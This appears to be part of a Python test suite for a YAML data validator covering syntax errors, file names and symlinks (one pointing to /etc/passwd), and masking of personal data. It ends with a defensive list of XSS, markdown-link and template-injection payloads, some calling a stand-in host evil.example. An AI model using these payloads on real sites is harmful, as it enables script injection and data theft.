      {BEXLEY: shipped_edit(BEXLEY, "\ntitle: ", "\ntitle: \x00")},
      [(BEXLEY, 3, 8, "U+0000")], only=True, base="shipped"),
    E("a cited review refused for its size: no knock-on unknown findings", "briefings",
      {BEXLEY: shipped(BEXLEY) + "# " + "x" * (1024 * 1024) + "\n"},
      [(BEXLEY, 1, 1, "larger than 1 MB")], only=True, base="shipped"),
    E("a cited review saved as UTF-16: no knock-on unknown findings", "briefings",
      {BEXLEY: shipped(BEXLEY).encode("utf-16")},
      [(BEXLEY, 1, 1, "UTF-16")], only=True, base="shipped"),
    E("a misspelt citation is still reported beside a broken review", "briefings",
      {BEXLEY: shipped_edit(BEXLEY, "\ntitle: ", "\ntitle: ["),
       BRIEFING: shipped_edit(BRIEFING, "- bexley-qs6-proactive-sab\n", "- bexley-qs6-proactiv-sab\n")},
      [(BEXLEY, None, None, "YAML syntax error"), (BRIEFING, 56, 11, "unknown finding 'bexley-qs6-proactiv-sab'")],
      only=True, base="shipped"),
    E("a control character written as an escape in a briefing", "briefings",
      {BRIEFING: shipped_edit(BRIEFING, "title: \"Learning summary:", "title: \"Learning\\x0c summary:")},
      [(BRIEFING, 3, 8, "title: holds U+000C")], only=True, base="shipped"),
    E("a briefing with a syntax error", "briefings", {BRIEFING: shipped_edit(BRIEFING, "audience:", "audience: [")},
      [(BRIEFING, None, None, "YAML syntax error")], only=True, base="shipped"),
    E("a mapping where a briefing cites a finding", "briefings",
      {BRIEFING: shipped_edit(BRIEFING, "- bexley-qs6-proactive-sab\n", "- {id: bexley-qs6-proactive-sab}\n")},
      [(BRIEFING, 56, 11, "findings: expected text, found a mapping of fields")], only=True, base="shipped"),
    E("a mapping where a briefing names a review", "briefings",
      {BRIEFING: shipped_edit(BRIEFING, "review: bexley-asc-peer-challenge", "review: {id: bexley-asc-peer-challenge}")},
      [(BRIEFING, 130, 15, "review: expected text, found a mapping of fields")], only=True, base="shipped"),
    E("a number where pseudonyms are listed", "briefings",
      {BRIEFING: shipped_edit(BRIEFING, "\naudience:", "\npseudonyms: 5\naudience:")},
      [(BRIEFING, 8, 13, "pseudonyms: expected a list, found the number 5")], only=True, base="shipped"),
    E("a briefing with 101 aliases", "briefings",
      {BRIEFING: shipped(BRIEFING) + "x: &x a\ny: [" + ", ".join(["*x"] * 101) + "]\n"},
      [(BRIEFING, None, None, "more than 100 aliases")], only=True, base="shipped"),

    # -- file names and folders ----------------------------------------------------------------------------
    E("a review saved as .YML", "file names", {REVIEW: None, "reviews/sample-review.YML": VALID_REVIEW},
      [("reviews/sample-review.YML", 1, 1, "rename it to sample-review.yml")], only=True),
    E("a review saved as .Yaml", "file names", {REVIEW: None, "reviews/sample-review.Yaml": VALID_REVIEW},
      [("reviews/sample-review.Yaml", 1, 1, "rename it to sample-review.yml")], only=True),
    E("a review saved as .yml.txt", "file names", {REVIEW: None, "reviews/sample-review.yml.txt": VALID_REVIEW},
      [("reviews/sample-review.yml.txt", 1, 1, "a data file's name ends in .yml")], only=True),
    E("a review saved as .yaml is read", "file names", {REVIEW: None, "reviews/sample-review.yaml": VALID_REVIEW}),
    E("a review in a misspelt folder", "file names", {REVIEW: None, "review/sample-review.yml": VALID_REVIEW},
      [("review", 1, 1, "unknown folder 'review' (did you mean 'reviews'?): nothing in it is read")], only=True),
    E("a review in a sub-folder", "file names", {"reviews/2024/other-review.yml": VALID_REVIEW},
      [("reviews/2024", 1, 1, "sub-folders are not read")], only=True),
    E("a file at the top of data/", "file names", {"sample-review.yml": VALID_REVIEW},
      [("sample-review.yml", 1, 1, "is not read: data/ holds only the folders")], only=True),
    E("notes beside the reviews", "file names", {"reviews/notes.md": "# notes\n"},
      [("reviews/notes.md", 1, 1, "a data file's name ends in .yml")], only=True),
    E("a file name with no extension", "file names", {"reviews/sample-review": VALID_REVIEW},
      [("reviews/sample-review", 1, 1, "ends in .yml")], only=True),
    E("an empty file named .yml", "file names", {"reviews/.yml": ""},
      [("reviews/.yml", 1, 1, "ends in .yml")], only=True),
    E("a hidden review is read, not skipped", "file names", {"reviews/.draft.yml": VALID_REVIEW},
      [("reviews/.draft.yml", 2, 5, "must match the file name '.draft.yml'")]),
    E("a file name with a line break", "file names", {"reviews/two\nlines.yml": VALID_REVIEW},
      [("reviews/two\\nlines.yml", 2, 5, "must match the file name")]),
    E("system and editor files are passed over", "file names",
      {"reviews/.DS_Store": b"\x00\x00\x00\x01Bud1", "reviews/Thumbs.db": b"\xd0\xcf", "reviews/sample-review.yml~": "x",
       "vocabularies/.topics.yml.swp": b"\x00"}),
    E("a link to a file outside data/", "file names", {"reviews/linked.yml": outside_file},
      [("reviews/linked.yml", 1, 1, "is a link to a file outside data/, which is not read")], only=True,
      absent=("hunter2",)),
    E("a link to /etc/passwd", "file names", {"reviews/passwd.yml": link_to("/etc/passwd")},
      [("reviews/passwd.yml", 1, 1, "is a link to a file outside data/")], only=True, absent=("root:",)),
    E("a link that leads nowhere", "file names", {"reviews/gone.yml": link_to("reviews/nothing.yml")},
      [("reviews/gone.yml", 1, 1, "is a link that leads nowhere")], only=True),
    E("a link to a folder", "file names", {"reviews/more": folder_link},
      [("reviews/more", 1, 1, "is a link to a folder, which is not followed")], only=True),
    E("a pipe in place of a review", "file names", {"reviews/pipe.yml": pipe},
      [("reviews/pipe.yml", 1, 1, "is not a regular file")], only=True),
    E("the data folder missing", "file names", {"": None}, [("", 1, 1, "the data folder does not exist")], only=True),
    E("a review whose id is not its file name", "file names", {REVIEW: None, "reviews/Sample Review.yml": VALID_REVIEW},
      [("reviews/Sample Review.yml", 2, 5, "must match the file name 'Sample Review.yml'")], only=True),

    # -- syntax errors, placed where the mistake is -------------------------------------------------------
    E("an unclosed double quote closed lines later", "syntax",
      {REVIEW: edit("title: Sample review", 'title: "Sample review').replace("report: 2024-05", 'report: "2024-05"')},
      [(REVIEW, 3, 8, "the quote opened here is only closed on line 11")], only=True),
    E("an unclosed single quote closed lines later", "syntax",
      {REVIEW: edit("title: Sample review", "title: 'Sample review").replace("title: A strength", "title: 'A strength'")},
      [(REVIEW, 3, 8, "only closed on line 24")], only=True),
    E("an unclosed quote at the end of the file", "syntax", {REVIEW: edit("topics: [carers]", 'topics: [carers]\n        paragraph: "12')},
      [(REVIEW, 27, 20, "a quote was opened and never closed")], only=True),
    E("an unclosed bracket", "syntax", {REVIEW: edit("topics: [carers]", "topics: [carers")},
      [(REVIEW, None, None, "YAML syntax error")], only=True),
    E("a stray closing bracket", "syntax", {REVIEW: edit("topics: [carers]", "topics: [carers]]")},
      [(REVIEW, 26, 25, "YAML syntax error")], only=True),
    E("a value starting with @", "syntax", {REVIEW: edit("A sample", "@council")},
      [(REVIEW, 15, 13, "a value starting with '@', '`' or '%' must be quoted")], only=True),
    E("a value starting with a backtick", "syntax", {REVIEW: edit("A sample", "`code`")},
      [(REVIEW, 15, 13, "must be quoted")], only=True),
    E("a value starting with %", "syntax", {REVIEW: edit("A sample", "%20 sample")},
      [(REVIEW, 15, 13, "YAML syntax error")], only=True),
    E("a field with no colon", "syntax", {REVIEW: edit("framework: cqc", "framework cqc")},
      [(REVIEW, None, None, "YAML syntax error")], only=True),
    E("a second document", "syntax", {REVIEW: VALID_REVIEW + "---\nid: other\n"},
      [(REVIEW, 27, 1, "a data file holds one YAML document")], only=True),
    E("a document end marker and more", "syntax", {REVIEW: VALID_REVIEW + "...\nid: other\n"},
      [(REVIEW, 28, 1, "<document start>")],
      only=True),
    E("only comments", "syntax", {REVIEW: "# nothing here yet\n"}, [(REVIEW, 1, 1, "the file is empty")], only=True),
    E("a plain list", "syntax", {REVIEW: "- a\n- b\n"}, [(REVIEW, 1, 1, "expected a mapping of fields, found a list")], only=True),
    E("a lone scalar", "syntax", {REVIEW: "just words\n"}, [(REVIEW, 1, 1, "expected a mapping of fields, found the text 'just words'")], only=True),
    E("a value that is a long scalar is shown short", "syntax", {REVIEW: "x" * 3000 + "\n"},
      [(REVIEW, 1, 1, "found the text 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...'")], only=True),

    # -- privacy --------------------------------------------------------------------------------------
    E("a lower-case postcode", "privacy", {REVIEW: finding_text("She lived at sw1a 1aa for years.")},
      [(REVIEW, 25, 29, "a full postcode")], only=True, absent=("sw1a 1aa",)),
    E("a date of birth in words", "privacy", {REVIEW: finding_text("Adult C was born on the 12th of March 1956.")},
      [(REVIEW, 25, 28, "a date of birth")], only=True, absent=("12th of March",)),
    E("a date of birth, month first", "privacy", {REVIEW: finding_text("Born March 12, 1956 in Leeds.")},
      [(REVIEW, 25, 16, "a date of birth")], only=True, absent=("March 12, 1956",)),
    E("a date of birth with a comma", "privacy", {REVIEW: finding_text("Date of birth: 12 March, 1956.")},
      [(REVIEW, 25, 16, "a date of birth")], only=True),
    E("an e-mail address in a comment", "privacy", {REVIEW: edit("sections:", "# ask jo.bloggs@example.org\nsections:")},
      [(REVIEW, 17, 7, "personal data: an e-mail address (jo******")], only=True, absent=("jo.bloggs@example.org",)),
    E("an e-mail address in a field name", "privacy", {REVIEW: edit("citation: A sample", "citation: A sample\n  jo.bloggs@example.org: x")},
      [(REVIEW, 16, 3, "personal data: an e-mail address")], absent=("jo.bloggs@example.org",)),
    E("an NHS number written as a number", "privacy",
      {REVIEW: edit("topics: [carers]", "topics: [carers]\n        paragraph: 4010232137")},
      [(REVIEW, 27, 20, "an NHS number")], absent=("4010232137",)),
    E("a phone number in a comment at the end of a line", "privacy", {REVIEW: edit("role: council", "role: council  # 07909 534126")},
      [(REVIEW, 9, 22, "a phone number")], only=True, absent=("534126",)),
    E("an e-mail address in a file that cannot be parsed", "privacy",
      {REVIEW: edit("title: Sample review", "title: [Sample review\n# jo.bloggs@example.org")},
      [(REVIEW, 4, 3, "an e-mail address")], absent=("jo.bloggs@example.org",)),
    E("an e-mail address written with an escape", "privacy", {REVIEW: edit("A sample", '"jo.bloggs\\x40example.org"')},
      [(REVIEW, 15, 13, "an e-mail address")], only=True, absent=("jo.bloggs",)),
    E("an e-mail address folded over two lines", "privacy", {REVIEW: edit("citation: A sample", "citation: >-\n    Write to jo.bloggs@example.org\n    or ring")},
      [(REVIEW, 16, 14, "an e-mail address")], only=True),
    E("a phone number folded over two lines (whole only in the value YAML reads)", "privacy",
      {REVIEW: edit("citation: A sample", "citation: >-\n    Ring 07909\n    534126 today")},
      [(REVIEW, 16, 10, "a phone number")], only=True, absent=("534126",)),
    E("a 'must be one line' message masks an e-mail address", "privacy",
      {REVIEW: edit("title: Sample review", 'title: "jo.bloggs@example.org\\nsecond line"')},
      [(REVIEW, 3, 8, "title: the text 'jo******"), (REVIEW, 3, 9, "an e-mail address")], only=True,
      absent=("jo.bloggs@example.org",)),
    E("an unknown field's name is masked", "privacy", {REVIEW: edit("citation: A sample", 'citation: A sample\n  "ring 07909 534126": x')},
      [(REVIEW, 16, 3, "unknown field 'ring 07**********'"), (REVIEW, 16, 9, "a phone number")], only=True,
      absent=("534126",)),
    E("an unknown topic is masked", "privacy", {REVIEW: edit("topics: [carers]", 'topics: ["jo.bloggs@example.org"]')},
      [(REVIEW, 26, 18, "unknown topic 'jo********")], absent=("jo.bloggs@example.org",)),
    E("a public contact, with a comment, is allowed", "privacy",
      {REVIEW: edit("    role: council\n", "    role: council\n    public_contact:\n      # the board's own mailbox\n"
                                          "      email: sab@example.gov.uk\n      phone: 020 7946 0958\n")}),
    E("an e-mail address after a public contact is refused", "privacy",
      {REVIEW: edit("    role: council\n", "    role: council\n    public_contact:\n      email: sab@example.gov.uk\n"
                                          "    note: ask jo.bloggs@example.org\n")},
      [(REVIEW, 12, 15, "an e-mail address")], only=True),
    E("an e-mail address in a broken vocabulary", "privacy",
      {TOPICS: shipped_edit(TOPICS, "name: Practice topics", "name: [Practice topics jo.bloggs@example.org")},
      [(TOPICS, 3, 24, "an e-mail address"), (TOPICS, 4, 12, "YAML syntax error")], only=True,
      absent=("jo.bloggs@example.org",)),
]


def categories() -> dict[str, int]:
    counts: dict[str, int] = {}
    for case in CASES:
        counts[case.category] = counts.get(case.category, 0) + 1
    return counts


#: Text a hostile contributor may write, meant to become live markup (script, event handlers, links that
#: run code, styles, frames, forms) in a page, a listing, the feed or a PDF. It must stay text.
INJECTIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"x.swf\"></object>",
    "<embed src=\"x.swf\">",
    "<form action=\"https://evil.example\"><input name=x></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<!-- a comment --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</textarea><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](x\" onerror=\"alert(1))",
    "[x](https://example.org \"t\\\" onmouseover=\\\"alert(1)\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "Text {: onclick=\"alert(1)\" }",
    "# Heading {#evil onclick=alert(1)}",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "<!--asckb:stats-->",
    "<p data-pagefind-meta=\"title:evil\" data-pagefind-ignore>x</p>",
    "\u202egnp.exe",
]
